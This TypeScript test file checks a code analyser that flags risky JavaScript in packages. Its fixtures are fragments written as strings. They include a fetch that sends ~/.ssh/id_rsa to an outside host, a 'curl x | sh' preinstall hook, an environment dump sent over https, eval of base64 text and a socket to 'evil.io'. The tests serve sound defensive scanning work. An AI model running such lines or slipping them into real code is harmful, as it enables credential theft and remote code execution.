import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join, resolve } from 'node:path'
import { describe, expect, it } from 'vitest'
import { analyseCode } from '../../main/cells/analysis/analyse-code.ts'
import { readCode } from '../../main/cells/analysis/read-code.ts'
import { codeAt } from '../../main/cells/code.ts'
import { filesUnder } from '../../shared/wire/cell-files.ts'

const worker = { node: process.execPath, script: resolve('main/cells/analysis/code-reader-process.ts') }
const rules = (source: string, file = 'index.js') =>
  readCode(file, source).map(({ rule, severity }) => `${severity} ${rule}`)

function folderWith(files: Record<string, string>): string {
  const folder = mkdtempSync(join(tmpdir(), 'gatehouse-code-'))
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, path)), { recursive: true })
    writeFileSync(join(folder, path), text)
  }
  return folder
}

describe('code', () => {
  it.each([
    [
      'eval of text from elsewhere',
      `const text = await (await fetch('https://x.io')).text(); eval(text)`,
      'high runs-fetched-text',
    ],
    ['eval of hidden text', `eval(atob('YWxlcnQ='))`, 'high runs-fetched-text'],
    [
      'eval by another name',
      `const run = Buffer.from('6a', 'hex').toString(); (0, globalThis['eval'])(run)`,
      'high runs-fetched-text',
    ],
    ['a function made of characters', `new Function(String.fromCharCode(97, 98))()`, 'high runs-fetched-text'],
    ['a machine of its own', `import vm from 'node:vm'; vm.runInThisContext(code)`, 'medium runs-text'],
    ['a shell', `const { exec } = require('child_process'); exec('ls ' + name)`, 'medium starts-programs'],
    ['a fetched program', `import { execSync } from 'node:child_process'; execSync(atob(x))`, 'high runs-fetched-text'],
    ['a socket', `import net from 'net'; net.connect(1, 'evil.io')`, 'medium raw-socket'],
    [
      'keys that leave',
      `import fs from 'fs'; fetch('https://x.io', { body: fs.readFileSync(home + '/.ssh/id_rsa') })`,
      'high reads-home-secrets',
    ],
    ['keys in a template', `const a = \`\${home}/.aws/credentials\``, 'medium reads-home-secrets'],
    ['a packer', `eval(function(p,a,c,k,e,d){return p}('a',1,1,[],0,{}))`, 'high obfuscated'],
    [
      'an obfuscator',
      Array.from({ length: 30 }, (_, at) => `var _0x${(0x1000 + at).toString(16)} = 1`).join('\n'),
      'high obfuscated',
    ],
    ['TypeScript', `const x: string = 'a' as string; eval(x)`, 'medium runs-text'],
  ])('is told of: %s', (_, source, expected) => {
    expect(rules(source, source.includes(': string') ? 'index.ts' : 'index.js')).toContain(expected)
  })

  it('of an ordinary server is not', () => {
    const source = `import { Server } from '@modelcontextprotocol/sdk'; import { readFile } from 'node:fs/promises'
      const server = new Server({ name: 'x' }); server.tool('read', async ({ path }) => ({ text: await readFile(path, 'utf8') }))
      const res = await fetch('https://api.example.com'); console.log(Buffer.from('x').toString('base64'))`
    expect(rules(source)).toEqual([])
  })

  it('that is no program is said to be unreadable, whatever it is', () => {
    expect(rules('}}} not a program')).toEqual(['low unreadable-code'])
  })

  it('says where: file and line', () => {
    expect(readCode('src/a.js', '\n\neval(x)')).toMatchObject([{ place: 'src/a.js:3', detail: 'eval(x)' }])
  })
})

describe('a package', () => {
  it('is looked into in a process of its own, its install scripts and machine code too', async () => {
    const folder = folderWith({
      'package.json': JSON.stringify({ scripts: { postinstall: 'node steal.js' } }),
      'index.js': 'eval(atob("x"))',
      'node_modules/dep/index.js': 'eval(x)',
      'build/a.node': 'x',
    })
    const found = await analyseCode(await codeAt({ kind: 'folder', folder, own: '' }), worker)
    expect(found?.map(({ rule, place }) => `${rule} ${place}`)).toEqual([
      'runs-fetched-text index.js:1',
      'install-script package.json',
      'native-code build/a.node',
    ])
  })

  it('has what is grave in its dependencies told, once for each package, and nothing else of them', async () => {
    const grave = 'eval(atob("x"))'
    const folder = folderWith({
      'node_modules/own/index.js': 'run()',
      'node_modules/dep/index.js': grave,
      'node_modules/dep/lib/other.js': grave,
      'node_modules/dep/package.json': JSON.stringify({ scripts: { preinstall: 'curl x | sh' } }),
      'node_modules/own/node_modules/@s/inner/a.cjs': "require('https').get('x/' + JSON.stringify(process.env))",
      'node_modules/plain/index.js': 'require("child_process").exec(x); eval(y); new Function(z)',
      'node_modules/unseen/index.js': `f()${' '.repeat(200)};g()`,
    })
    const found = await analyseCode(await codeAt({ kind: 'folder', folder, own: 'node_modules/own' }), worker)
    expect(found?.map(({ severity, rule, place, detail }) => `${severity} ${rule} ${place} ${detail}`)).toEqual([
      'high runs-fetched-text node_modules/dep/index.js:1 eval(atob("x")) (and 1 more in this package)',
      'high harvests-environment node_modules/own/node_modules/@s/inner/a.cjs:1 JSON.stringify(process.env))',
      expect.stringMatching(/^high hidden-code node_modules\/unseen\/index.js:1/),
      'medium install-script node_modules/dep/package.json preinstall: curl x | sh',
    ])
  })

  if (process.env.GATEHOUSE_TEST_FULL === '1')
    it('of many known dependencies has nothing grave', { timeout: 300_000 }, async () => {
      const limit = { graveOnly: true, files: 40_000, bytesEach: 1e7, bytes: 1e9, ms: 280_000 }
      const wants = (path: string) => /^(?:node_modules\/.*[cm]?js|scripts\/[^/]*)$/.test(path)
      const files = await filesUnder(resolve('.'), { files: 100_000, bytes: 4e9, wants })
      const code = { folder: resolve('.'), own: 'scripts', files: files ?? [], covered: 'all' as const }
      const found = await analyseCode(code, worker, { own: { ...limit, graveOnly: false }, dependencies: limit })
      expect(found?.length).toBeGreaterThan(0)
      expect(found?.filter(({ severity }) => severity === 'high')).toEqual([])
    })

  it('that is too much or too slow to read says so', async () => {
    const folder = folderWith({ 'a.js': 'a()', 'b.js': 'b()'.repeat(100_000), 'c.js': 'c()' })
    const code = await codeAt({ kind: 'folder', folder, own: '' })
    const own = { graveOnly: false, files: 10, bytesEach: 1000, bytes: 10_000, ms: 20_000 }
    const dependencies = { ...own, graveOnly: true }
    expect(await analyseCode(code, worker, { own, dependencies })).toMatchObject([
      { rule: 'not-all-looked-at', detail: '1 of 3 files' },
    ])
    expect(await analyseCode(code, worker, { own: { ...own, ms: 0 }, dependencies })).toMatchObject([
      { rule: 'not-all-looked-at' },
    ])
  })

  it('with a file that ends its reader has that told as grave, and the rest is read', async () => {
    const folder = folderWith({ 'a.js': '('.repeat(200_000), 'b.js': 'eval(atob("x"))' })
    const found = await analyseCode(await codeAt({ kind: 'folder', folder, own: '' }), worker)
    expect(found?.map(({ rule, severity, place }) => `${severity} ${rule} ${place}`)).toEqual([
      'high unreadable-code a.js',
      'high runs-fetched-text b.js:1',
      'medium not-all-looked-at ',
    ])
  })

  it.each(['server-everything', 'server-filesystem', 'server-memory'])('of %s has nothing grave', async (name) => {
    const folder = resolve('node_modules/@modelcontextprotocol', name)
    const found = await analyseCode(await codeAt({ kind: 'folder', folder, own: '' }), worker)
    expect(found?.filter(({ severity }) => severity !== 'low')).toEqual([])
  })

  it('does not hold up anything else while it is read', async () => {
    const folder = folderWith(
      Object.fromEntries(Array.from({ length: 40 }, (_, at) => [`f${at}.js`, 'f(1);'.repeat(20_000)])),
    )
    const code = await codeAt({ kind: 'folder', folder, own: '' })
    let longest = 0
    let last = performance.now()
    const timer = setInterval(() => {
      longest = Math.max(longest, performance.now() - last)
      last = performance.now()
    }, 5)
    await analyseCode(code, worker)
    clearInterval(timer)
    expect(longest).toBeLessThan(300)
  })
})
